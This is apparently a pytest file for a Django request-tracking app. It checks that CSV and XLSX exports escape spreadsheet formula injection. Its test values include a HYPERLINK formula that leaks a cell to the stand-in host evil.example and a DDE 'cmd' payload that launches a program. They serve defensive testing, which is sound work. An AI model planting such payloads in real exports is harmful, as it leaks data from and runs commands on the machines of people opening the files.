"""No value the app writes into a spreadsheet runs as a formula, in any CSV or XLSX export.

Names, titles, tags, campaign names and answer fields are made to start with each character
a spreadsheet program takes for the start of a formula (`=`, `+`, `-`, `@`, a tab, a
carriage return), then every CSV and XLSX route the URL table knows is fetched. In an XLSX
no cell may be a formula; in a CSV no cell may start with one of those characters unless
it is a number (text gets the apostrophe that tells a spreadsheet "this is text").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal, InvalidOperation
from typing import Any

import pytest
from django.http import HttpResponseBase

from requests_app import models
from requests_app.dataio.spreadsheets import FORMULA_PREFIXES
from tests.factories import TagFactory
from tests.trust.conftest import Objects
from tests.trust.test_what_leaves import OUTPUTS, Secret, body_of

pytestmark = pytest.mark.usefixtures("frozen_today")

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "their_reference": "+SUM(1,2)",
    "body": "-2+3 Evil Trust",
    "tag": "@SUM(A1:A9)",
    "campaign": "\t=cmd|' /C calc'!A0",
    "field": '=HYPERLINK("https://evil.example","field")',
    "answer": "\r=1+1",
}
SPREADSHEET_OUTPUTS = sorted(
    name for name, output in OUTPUTS.items() if {"csv", "xlsx"} & set(output.formats)
)


@pytest.fixture
def hostile(objects: Objects, client_for: Any, django_capture_on_commit_callbacks: Any) -> Secret:
    """Alice's campaign request, its body, tag, campaign and batch, named to attack."""
    world = objects.world
    foi_request = world.foi_request
    foi_request.title, foi_request.their_reference = HOSTILE["title"], HOSTILE["their_reference"]
    foi_request.save()
    foi_request.tags.add(TagFactory(name=HOSTILE["tag"], slug="hostile-tag"))
    foi_request.record_response(on=dt.date(2026, 1, 12), outcome=models.Status.REFUSED)
    body = foi_request.public_body
    body.name = HOSTILE["body"]
    body.save()
    world.campaign.name = HOSTILE["campaign"]
    world.campaign.save()
    member = objects.batch.members.get()
    member.public_body = body
    member.save()
    answer_field = models.AnswerField.objects.create(
        batch=objects.batch, name=HOSTILE["field"], kind=models.AnswerKind.TEXT, order=1
    )
    models.Answer.objects.create(field=answer_field, request=member, value_text=HOSTILE["answer"])
    accept_every_finding(models.FoiRequest.objects.visible_to(world.owner))
    owner = client_for(world.owner)
    return Secret(objects, foi_request, owner, django_capture_on_commit_callbacks)


def accept_every_finding(requests: Any) -> None:
    """The exports wait for the disclosure check (tests/redaction/test_gate.py): here every
    finding is accepted, so that they are produced and their cells can be read."""
    from requests_app.redaction.disclosure import check_requests

    for finding in check_requests(requests):
        models.DisclosureAcceptance.objects.get_or_create(
            attachment=finding.attachment, message=finding.message, key=finding.key
        )


@dataclass(frozen=True)
class Cell:
    value: str
    is_formula: bool


def csv_cells(content: bytes) -> list[Cell]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [Cell(value, starts_a_formula(value)) for row in rows for value in row]


def starts_a_formula(text: str) -> bool:
    if not text.startswith(FORMULA_PREFIXES):
        return False
    try:
        Decimal(text)
    except InvalidOperation:
        return True
    return False  # a negative number is a number


def xlsx_cells(content: bytes) -> list[Cell]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    found = (cell for sheet in workbook for row in sheet.iter_rows() for cell in row)
    return [Cell(str(cell.value), cell.data_type == "f") for cell in found if cell.value]


def cells_of(response: HttpResponseBase) -> list[Cell]:
    content = body_of(response)
    if content.startswith(b"PK\x03\x04"):
        return xlsx_cells(content)
    assert response["Content-Type"].startswith("text/csv"), response["Content-Type"]
    return csv_cells(content)


def test_the_table_knows_every_spreadsheet_export() -> None:
    assert SPREADSHEET_OUTPUTS == [
        "batch_answers_export",
        "body_insights_csv",
        "campaign_insights_csv",
        "campaign_league_csv",
        "insights_csv",
        "request_export_csv",
        "request_export_xlsx",
        "spreadsheet_template",
    ]


@pytest.mark.parametrize("name", SPREADSHEET_OUTPUTS)
def test_no_cell_of_any_export_is_a_formula(name: str, hostile: Secret) -> None:
    responses = OUTPUTS[name].fetch(hostile)
    assert responses and all(response.status_code == 200 for response in responses)
    cells = [cell for response in responses for cell in cells_of(response)]
    assert cells
    assert [cell.value for cell in cells if cell.is_formula] == []


def test_the_hostile_values_do_reach_the_exports(hostile: Secret) -> None:
    """Every hostile value is written somewhere, as text: the test above is not vacuous."""
    written = "\n".join(
        cell.value
        for name in SPREADSHEET_OUTPUTS
        for response in OUTPUTS[name].fetch(hostile)
        for cell in cells_of(response)
    )
    for value in HOSTILE.values():
        assert value.strip() in written, value
